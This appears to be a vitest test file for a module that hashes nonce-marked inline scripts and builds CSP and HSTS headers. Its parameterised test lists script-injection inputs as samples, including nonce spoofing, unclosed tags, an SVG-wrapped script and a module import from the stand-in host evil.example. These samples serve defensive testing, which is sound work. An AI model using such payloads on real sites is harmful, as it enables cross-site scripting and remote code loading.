import { createHash } from 'node:crypto';
import { expect, test } from 'vitest';
import { markedScripts, securityHeaders } from './security-headers.ts';

const hash = (script: string) => `sha256-${createHash('sha256').update(script).digest('base64')}`;

test('inline scripts that carry the mark are allowed by their hash, files and data blocks need none', () => {
  const html = `<meta property="csp-nonce" content="m4rk"/><script nonce="m4rk">let a=1</script>
    <link rel="modulepreload" nonce="m4rk" href="/assets/y.js"/>
    <script type="module" nonce="m4rk" async src="/assets/x.js"></script>
    <script type="application/ld+json" nonce="m4rk">{"a":1}</script><script nonce="m4rk" class="$tsr">let b</script>`;
  const { html: sent, hashes } = markedScripts(html, 'm4rk');
  expect(hashes).toEqual([hash('let a=1'), hash('let b')]);
  expect(sent).not.toMatch(/m4rk|nonce/);
  expect(sent).toContain('<script>let a=1</script>');
  expect(sent).toContain('<script class="$tsr">let b</script>');
});

test.each([
  '<script>alert(1)</script>',
  '<script nonce="other">alert(1)</script>',
  '<script nonce="">alert(1)</script>',
  '<script data-x=\'nonce="other"\'>alert(1)</script>',
  '<script>alert(1)',
  '<script><!--<script>alert(1)',
  '<script type="module">import("//evil.example/x.js")</script>',
  '<svg><script>alert(1)</script></svg>',
])('%s, wherever it comes from, is allowed nowhere', (injected) => {
  const own = '<script nonce="m4rk">let a=1</script>';
  expect(markedScripts(`<p>${injected}</p>${own}`, 'm4rk').hashes).toEqual([hash('let a=1')]);
  expect(markedScripts(`${own}<p>${injected}</p>`, 'm4rk').hashes).toEqual([hash('let a=1')]);
});

test('scripts and styles never run unsafe', () => {
  const policy = securityHeaders({ scriptHashes: ['sha256-x'], hsts: undefined })['content-security-policy']!;
  expect(policy).toContain("script-src 'self' 'sha256-x';");
  expect(policy.match(/unsafe-inline/g)).toHaveLength(1);
  expect(policy).toContain("style-src-attr 'unsafe-inline'");
});

test('only a secure address asks for a secure connection, for its subdomains where the setting says so', () => {
  const name = 'strict-transport-security';
  expect(securityHeaders({ hsts: 'subdomains' })).toHaveProperty(name, 'max-age=31536000; includeSubDomains');
  expect(securityHeaders({ hsts: 'host' })).toHaveProperty(name, 'max-age=31536000');
  expect(securityHeaders({ hsts: undefined })).not.toHaveProperty(name);
});
